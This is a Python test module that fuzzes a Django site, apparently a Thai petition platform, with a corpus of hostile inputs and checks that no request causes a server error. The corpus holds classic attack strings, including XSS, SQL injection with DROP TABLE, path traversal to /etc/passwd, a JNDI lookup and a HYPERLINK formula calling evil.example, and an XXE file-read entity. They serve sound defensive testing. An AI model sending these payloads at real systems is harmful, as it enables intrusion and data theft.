"""A hostile-input corpus, and a sweep that sends it: never a 5xx, never a logged traceback.

Refusals are expected and welcome (400, 403, 404, 405, 410, 413, 429); what fails a sweep is a response of
500 or more, and any record logged at ERROR or above (a refused attack is a WARNING line). The fuzz tests
of every app send this corpus; together ``test_public_forms.py``, ``test_id_routes.py`` and
``test_pages_and_hosts.py`` send well over 2,000 requests, each test counting its own and checking a floor.
"""

import logging
from dataclasses import dataclass, field
from urllib.parse import urlencode

from django.test import Client

# --- The corpus ----------------------------------------------------------------------------------------------------

HOSTILE_TEXT = [
    "",
    " ",
    "x" * 10_000,
    "ก" * 3_000,
    "a\x00b",
    "\x00",
    "%00",
    "\u200b\u200b",
    "\u202eevil\u202c",
    "\x07\x1b[31m\r\nSet-Cookie: pwned=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    "'; DROP TABLE petitions_signature; --",
    "../../../../etc/passwd",
    "{{ 7|add:7 }}{% debug %}",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("http://evil.example","x")',
    "😀" * 500,
    "e\u0301" * 2_000,
    "9" * 400,
    "-1",
    "1e309",
    "NaN",
    "ญ" * 121,
]
# Not text at all: sent as raw bytes, which Django would have decoded into mojibake.
INVALID_UTF8 = [b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", "สมชาย".encode("tis-620"), b"\xe0\xb8"]
HOSTILE_IDS = [
    "0",
    "-1",
    "abc",
    "１２３",
    str(2**63 - 1),
    str(2**63),
    str(2**64 + 1),
    "9" * 100,
    "1%00",
    "..%2f",
]
WRONG_METHODS = ["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND"]
CONTENT_TYPES = [
    ("application/json", b'{"name": "x", "email": ["not", "a", "string"], "consent": {"$gt": ""}}'),
    ("application/json", b"{not json"),
    ("text/plain", b"name=x&email=y"),
    (
        "application/xml",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    ),
    ("multipart/form-data", b"--no boundary given\r\n\r\n"),
    ("multipart/form-data; boundary=xyz", b"--xyz\r\nContent-Disposition: form-data\r\n\r\njunk\r\n--xyz"),
    ("multipart/form-data; boundary=xyz", b'--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\n'),
    ("multipart/form-data; boundary=" + "b" * 5000, b"--"),
    ("application/x-www-form-urlencoded", b"%%%&&==&=&name=%zz&email=%"),
    ("application/x-www-form-urlencoded; charset=klingon", b"name=x"),
    ("application/x-www-form-urlencoded; charset=utf-16", "name=สมชาย".encode("utf-16")),
    ("", b"name=x"),
    ("application/octet-stream", bytes(range(256)) * 4),
]
TRAVERSALS = [
    "/th/../../etc/passwd",
    "/media/../site_project/settings/base.py",
    "/media/../../etc/passwd",
    "/media/%2e%2e/%2e%2e/etc/passwd",
    "/static/../manage.py",
    "/static/..%2f..%2fmanage.py",
    "/documents/../admin/",
    "/th/petitions/sign/..%2f..%2f/",
    "/embed/petitions/1/../../../admin/",
    "/th/account/members/documents/..%2f1/",
    "/th/%00/",
    "/th/petitions/%00/",
    "/th/petitions/\x00nightlife/",
    "/th/" + "a/" * 400,
    "/th/" + "ก" * 2_000 + "/",
    "/%ff%fe/",
    "/th/petitions/nightlife/%c0%ae%c0%ae/",
]
BAD_HOSTS = [
    "evil.example",
    "127.0.0.1:99999",
    "",
    "a b",
    "127.0.0.1\r\nX-Injected: 1",
    "x" * 300,
    "[::1",
    "localhost@evil",
]
OK_STATUSES = range(200, 500)


# --- Sending and judging -------------------------------------------------------------------------------------------


@dataclass
class Sweep:
    """Sends requests with clients that never raise, and keeps every server error for the report."""

    count: int = 0
    failures: list[str] = field(default_factory=list)

    def send(self, client: Client, method: str, path: str, data=b"", content_type="", **extra) -> int:
        """One request; a dict ``data`` is posted as multipart, as a browser posts a form with a file."""
        self.count += 1
        try:
            if isinstance(data, dict):
                response = client.post(path, data, **extra)
            else:
                response = client.generic(method, path, data, content_type=content_type, **extra)
        except Exception as error:  # noqa: BLE001  (an exception the handler did not turn into a response)
            self.failures.append(f"{method} {path[:150]!r}: raised {type(error).__name__}: {error!s:.200}")
            return 0
        if response.status_code not in OK_STATUSES:
            cause = ""
            if getattr(response, "exc_info", None):
                cause = f": {response.exc_info[0].__name__}: {response.exc_info[1]!s:.200}"
            self.failures.append(f"{method} {path[:150]!r} -> {response.status_code}{cause}")
        return response.status_code

    def post_form(self, client: Client, path: str, data: dict, **kwargs) -> int:
        """Post ``data`` urlencoded, as a browser would; bytes values go as they are, not as UTF-8."""
        body = urlencode(data, doseq=True)
        return self.send(
            client, "POST", path, data=body, content_type="application/x-www-form-urlencoded", **kwargs
        )

    def assert_clean(self, errors: list[logging.LogRecord], *, at_least: int) -> None:
        assert self.count >= at_least, f"only {self.count} requests sent"
        logged = [f"{record.name} {record.levelname}: {record.getMessage()[:200]}" for record in errors]
        report = "\n".join([*self.failures[:40], *logged[:20]])
        assert not self.failures and not logged, (
            f"{len(self.failures)} server errors and {len(logged)} ERROR records in {self.count} requests:\n{report}"
        )


def fuzz_client(user=None, **defaults) -> Client:
    defaults.setdefault("HTTP_HOST", "127.0.0.1")
    client = Client(raise_request_exception=False, **defaults)
    if user is not None:
        client.force_login(user)
    return client
